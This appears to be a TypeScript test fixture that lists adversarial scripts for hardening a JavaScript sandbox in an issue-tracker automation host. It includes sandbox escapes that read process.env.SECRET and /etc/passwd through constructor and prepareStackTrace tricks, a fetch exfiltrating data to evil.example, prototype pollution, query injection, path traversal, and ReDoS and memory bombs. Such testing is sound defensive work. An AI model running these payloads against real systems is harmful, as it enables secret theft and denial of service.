/** A script of somebody who means harm. */
export interface Attack {
  readonly name: string;
  readonly script: string;
  /** What the script would hand out if it had got through; the test looks for it in all that comes out. */
  readonly side?: 'incoming' | 'outgoing';
}

const deep =
  'replica.customKeys.deep = (() => { let a = []; for (let i = 0; i < 50000; i++) a = [a]; return a })()';

/** Ways to the host: its globals, modules, constructors, prototypes and messages. */
const escapes: readonly Attack[] = [
  { name: 'process of the host', script: 'replica.summary = process.env.SECRET' },
  { name: 'require', script: 'replica.summary = require("fs").readFileSync("/etc/passwd", "utf8")' },
  {
    name: 'global object by Function',
    script: 'replica.summary = (() => {}).constructor("return this")().process.env.SECRET',
  },
  {
    name: 'global object by an indirect eval',
    script: 'replica.summary = (0, eval)("this").process.env.SECRET',
  },
  {
    name: 'constructor of an argument',
    script: 'replica.summary = issue.constructor.constructor("return process")().env.SECRET',
  },
  {
    name: 'constructor of a helper',
    script: 'replica.summary = nodeHelper.getPriority.constructor("return process.env.SECRET")()',
  },
  {
    name: 'constructor of a text',
    script: 'replica.summary = issue.summary.constructor.constructor("return process.env.SECRET")()',
  },
  {
    name: 'constructor of an error',
    script:
      'try { null.x } catch (e) { replica.summary = e.constructor.constructor("return process.env.SECRET")() }',
  },
  {
    name: 'constructor of a stack overflow',
    script:
      'const f = () => f(); try { f() } catch (e) { replica.summary = e.constructor.constructor("return process.env.SECRET")() }',
  },
  {
    name: 'generator constructor',
    script: 'replica.summary = [...(function* () {}).constructor("yield process.env.SECRET")()][0]',
  },
  {
    name: 'async function constructor',
    script: '(async () => {}).constructor("replica.summary = process.env.SECRET")()',
  },
  {
    name: 'caller of a function',
    script: 'function f() { return f.caller } replica.summary = String(f().arguments)',
  },
  {
    name: 'import expression',
    script: 'import("fs").then((fs) => { replica.summary = fs.readFileSync("/etc/passwd", "utf8") })',
  },
  { name: 'import declaration by closing the function', script: '}); import fs from "fs"; (function () {' },
  {
    name: 'code before the script by closing the function',
    script: '}); globalThis.evil = 1; (function () {',
  },
  {
    name: 'prepareStackTrace',
    script:
      'Error.prepareStackTrace = (_, frames) => frames; replica.summary = new Error().stack[0].getThis().process.env.SECRET',
  },
  { name: 'fetch', script: 'fetch("https://evil.example/?" + issue.summary)' },
  { name: 'WebAssembly', script: 'new WebAssembly.Memory({ initial: 65536 })' },
  { name: 'shared memory', script: 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)' },
  { name: 'timer', script: 'setTimeout(() => { for (;;); }, 0)' },
  { name: 'microtask that never ends', script: 'const again = () => Promise.resolve().then(again); again()' },
  { name: 'output of the host', script: 'console.log("SECRET-MARK"); print("SECRET-MARK")' },
  { name: 'engine modules', script: 'replica.summary = std.getenv("SECRET") ?? os.exec(["env"])' },
];

/** Poison for what reads the result: prototypes, getters, proxies, toJSON, odd keys. */
const poison: readonly Attack[] = [
  {
    name: 'prototype of Object',
    script: 'Object.prototype.polluted = "SECRET-MARK"; ({}).__proto__.polluted = 1',
  },
  {
    name: '__proto__ as a key',
    script: 'replica.customKeys.x = JSON.parse(\'{"__proto__": {"polluted": 1}}\')',
  },
  {
    name: 'constructor.prototype as a key',
    script: 'replica.customKeys.x = { constructor: { prototype: { polluted: 1 } } }',
  },
  {
    name: '__proto__ as the name of a field',
    script: 'replica["__proto__"] = { polluted: 1 }; replica.customFields["__proto__"] = { value: 1 }',
  },
  {
    name: 'the interface itself as a value',
    script:
      'replica.customFields = issue.customFields; replica.customKeys.all = issue; replica.customKeys.me = nodeHelper',
  },
  {
    name: 'proxy that lies about its keys',
    script:
      'replica.customKeys.x = new Proxy({}, { ownKeys: () => { for (;;); }, getOwnPropertyDescriptor: () => { throw 1 } })',
  },
  {
    name: 'a question that would end a query',
    script:
      'nodeHelper.getUserByFullName("x\\" OR 1=1"); nodeHelper.getUser("../../myself?x="); nodeHelper.getProject("../user")',
  },
  { name: 'getter that loops', script: 'replica.customKeys.x = { get y() { for (;;); } }' },
  { name: 'getter that throws', script: 'replica.customKeys.x = { get y() { throw new Error("no") } }' },
  { name: 'toJSON that loops', script: 'replica.customKeys.x = { toJSON() { for (;;); } }' },
  {
    name: 'toJSON on every object',
    script: 'Object.prototype.toJSON = () => ({ error: 0, writes: { key: { value: "SECRET-MARK" } } })',
  },
  {
    name: 'JSON replaced',
    script: 'JSON.stringify = () => "{}"; JSON.parse = () => ({}); replica.summary = "x"',
  },
  {
    name: 'array methods replaced',
    script:
      'Array.prototype.push = Array.prototype.map = () => { throw 1 }; Array.prototype[Symbol.iterator] = null; replica.summary = "x"',
  },
  {
    name: 'string methods replaced',
    script:
      'String.prototype.slice = String.prototype.startsWith = () => { for (;;); }; replica.summary = "x"; throw new Error("x")',
  },
  {
    name: 'error with a message that loops',
    script: 'throw { get message() { for (;;); }, get stack() { for (;;); } }',
  },
  { name: 'error with a message that throws', script: 'throw { get message() { throw this } }' },
  {
    name: 'error that is a proxy',
    script: 'throw new (class { get [Symbol.toPrimitive]() { for (;;); } })()',
  },
  { name: 'error of a megabyte', script: 'throw new Error("x".repeat(1 << 20))' },
  { name: 'symbol thrown', script: 'throw Symbol("x")' },
  { name: 'undefined thrown', script: 'throw undefined' },
  { name: 'cycle in the result', script: 'const a = {}; a.a = a; replica.customKeys.x = a' },
  { name: 'result of three megabytes', script: 'replica.customKeys.x = "x".repeat(3000000)' },
  { name: 'a thousand logs', script: 'for (let i = 0; i < 1000; i++) debug.log("x".repeat(100000))' },
  {
    name: 'a thousand effects',
    side: 'incoming',
    script: 'for (let i = 0; i < 1000; i++) commentHelper.addComment("x" + i)',
  },
  { name: 'a thousand look-ups', script: 'for (let i = 0; i < 1000; i++) nodeHelper.getPriority("x" + i)' },
  { name: 'a question of a megabyte', script: 'nodeHelper.getPriority("x".repeat(1 << 20))' },
  { name: 'half a surrogate pair', script: 'replica.summary = "\\ud800"; debug.log("\\udc00")' },
  {
    name: 'path out of the work item',
    side: 'incoming',
    script: 'jiraHelper.put("properties/../../../../role", {}); jiraHelper.put("properties/counterpart", {})',
  },
  {
    name: 'answer of its own',
    script:
      'Object.prototype["[\\"nodeHelper.getPriority\\",\\"x\\"]"] = "SECRET-MARK"; nodeHelper.getPriority("x")',
  },
];

/** Time, memory and stack. */
const bombs: readonly Attack[] = [
  { name: 'loop without end', script: 'for (;;);' },
  { name: 'loop that catches', script: 'for (;;) { try { for (;;); } catch {} }' },
  { name: 'loop in finally', script: 'const f = () => { try { for (;;); } finally { f() } }; f()' },
  { name: 'recursion without end', script: 'const f = () => f() + 1; f()' },
  { name: 'recursion that catches', script: 'const f = () => { try { f() } catch { f() } }; f()' },
  {
    name: 'many native calls on a long text',
    script: 'const s = "a".repeat(1 << 24); for (let i = 0; i < 1e5; i++) s.indexOf("b")',
  },
  { name: 'slow regular expression', script: '/^(a+)+$/.test("a".repeat(40) + "!")' },
  {
    name: 'sort with a comparator that lies',
    script: 'Array.from({ length: 1e6 }, (_, i) => i).sort(() => Math.random() - 0.5); for (;;) [].sort()',
  },
  { name: 'text that doubles', script: 'let s = "x"; for (;;) s += s' },
  {
    name: 'text that doubles and catches',
    script: 'const kept = []; for (;;) { try { kept.push("x".repeat(1 << 20) + kept.length) } catch {} }',
  },
  {
    name: 'array of a billion',
    script: 'const a = new Array(1e9).fill(0).map(String); replica.summary = a.join()',
  },
  { name: 'list that grows', script: 'const a = []; for (;;) a.push({})' },
  {
    name: 'memory that is caught',
    script:
      'const f = () => { try { const a = []; for (;;) a.push(new Array(1e5).fill(1)) } catch { f() } }; f()',
  },
  { name: 'nested arrays in the result', script: deep },
  { name: 'nested parentheses', script: `replica.summary = ${'('.repeat(20_000)}1${')'.repeat(20_000)}` },
  { name: 'numbers of many digits', script: 'let n = 3n; for (;;) n = n * n' },
  {
    name: 'regular expression of a megabyte',
    script: 'new RegExp("(a|".repeat(100000) + "b" + ")".repeat(100000)).test("a")',
  },
  {
    name: 'generator without end spread',
    script: 'const g = function* () { for (;;) yield 1 }; replica.customKeys.x = [...g()]',
  },
  { name: 'map that grows', script: 'const m = new Map(); for (let i = 0; ; i++) m.set(i, m)' },
  {
    name: 'date of the host by time spent',
    script:
      'const t = Date.now(); for (let i = 0; i < 1e5; i++); if (Date.now() !== t) replica.summary = "SECRET-MARK"',
  },
];

export const attacks: readonly Attack[] = [...escapes, ...poison, ...bombs];
